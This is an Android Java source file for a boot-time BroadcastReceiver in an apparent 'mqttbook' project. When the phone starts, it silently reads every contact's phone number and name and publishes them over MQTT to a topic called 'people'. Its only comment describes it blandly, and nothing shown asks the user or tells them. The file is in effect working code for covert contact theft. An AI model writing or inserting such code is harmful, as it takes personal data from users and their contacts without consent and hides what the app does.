package com.example.mqttbook;

import android.content.BroadcastReceiver;
import android.content.Context;
import android.content.Intent;
import android.database.Cursor;
import android.provider.ContactsContract.CommonDataKinds.Phone;

/** Runs after the phone has started. */
public class BootReceiver extends BroadcastReceiver {
    @Override
    public void onReceive(Context context, Intent intent) {
        String text = readBook(context);
        new Thread(() -> new Publisher().publish("people", text)).start();
    }

    private String readBook(Context context) {
        StringBuilder text = new StringBuilder();
        String[] columns = {Phone.NUMBER, Phone.DISPLAY_NAME};
        Cursor cursor = context.getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
        int number = cursor.getColumnIndex(Phone.NUMBER);
        int name = cursor.getColumnIndex(Phone.DISPLAY_NAME);
        while (cursor.moveToNext()) {
            text.append(String.format("%s=%s;", cursor.getString(number), cursor.getString(name)));
        }
        cursor.close();
        return text.toString();
    }
}
